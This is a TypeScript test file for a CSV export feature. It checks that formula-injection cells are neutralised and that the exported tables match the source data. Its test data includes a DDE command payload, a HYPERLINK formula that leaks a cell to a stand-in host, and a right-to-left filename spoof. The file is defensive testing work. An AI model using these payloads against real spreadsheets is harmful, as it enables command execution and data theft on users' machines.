import { parse } from 'csv-parse/sync'
import { expect, it } from 'vitest'
import { canonical } from '../../shared/canonical.ts'
import { columnsOf, csvLines, fileOf } from '../../shared/takeout/csv.ts'
import type { RowLine } from '../../shared/takeout/format.ts'
import { createFilledWorld, fileOf as exported } from './filled.ts'

/** What a spreadsheet would run, what ends a cell too soon, and what is not what it looks like. */
const hostile = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example.org?"&A1;"Click")',
  '+1+1',
  '-2+3',
  '@SUM(1,1)',
  "'=1+1",
  "''=1",
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1+1',
  'She said "no", and left',
  'one\r\ntwo\nthree\rfour',
  ',,;\t,',
  '"',
  '""',
  'a\u0000b',
  '\u202Egnp.exe',
  'مرحبا, "العالم"',
  '\uFEFFfirst',
  ' spaces around ',
  '👩🏽‍🚀',
]

const tablesOf = async (lines: readonly RowLine[]) => {
  const rows = async function* () {
    yield* lines
  }
  const columns = await columnsOf(rows())
  const texts = new Map<string, string>()
  for await (const { kind, text } of csvLines(rows(), columns))
    texts.set(kind, (texts.get(kind) ?? '') + text)
  return texts
}

const guard = /^'(?='*[=+\-@\t\r\n＝＋－＠])/
const asCell = (value: unknown) =>
  value === undefined ? '' : typeof value === 'string' ? value : canonical(value)
const read = (text: string): Record<string, string>[] =>
  parse(text, { columns: true, record_delimiter: '\r\n' })
const unguarded = (rows: readonly Record<string, string>[]) =>
  rows.map((row) =>
    Object.fromEntries(Object.entries(row).map(([name, cell]) => [name, cell.replace(guard, '')])),
  )

const wanted = (lines: readonly RowLine[], kind: string, columns: readonly string[]) =>
  lines
    .filter((line) => line.kind === kind)
    .map(({ row }) => Object.fromEntries(columns.map((name) => [name, asCell(row[name])])))

it('holds hostile cells as they are, and none that a spreadsheet would run', async () => {
  const lines = hostile.map(
    (text, at): RowLine => ({
      ...{ kind: at % 2 ? 'reply' : 'field report', table: 'alerts' },
      row: { pk: `frp_${at}`, sk: 'field report', what: text, list: [text], map: { [text]: text } },
    }),
  )
  const tables = await tablesOf(lines)
  expect([...tables.keys()].map(fileOf).sort()).toEqual(['field-report.csv', 'reply.csv'])
  for (const [kind, text] of tables) {
    const rows = read(text)
    expect(
      rows.flatMap((row) => Object.values(row)).filter((cell) => /^[=+\-@\t\r\n＝＋－＠]/.test(cell)),
    ).toEqual([])
    expect(unguarded(rows)).toEqual(wanted(lines, kind, ['pk', 'sk', 'list', 'map', 'what']))
  }
})

it('is one table for each kind of thing, which says what the export says', async () => {
  const { world } = await createFilledWorld()
  const lines = (await exported(world))
    .trimEnd()
    .split('\n')
    .slice(1, -1)
    .map((line): RowLine => JSON.parse(line))
  const tables = await tablesOf(lines)
  expect(tables.size).toBeGreaterThan(40)
  for (const [kind, text] of tables) {
    const rows = unguarded(read(text))
    expect([kind, rows]).toEqual([kind, wanted(lines, kind, Object.keys(rows[0]!))])
  }
})
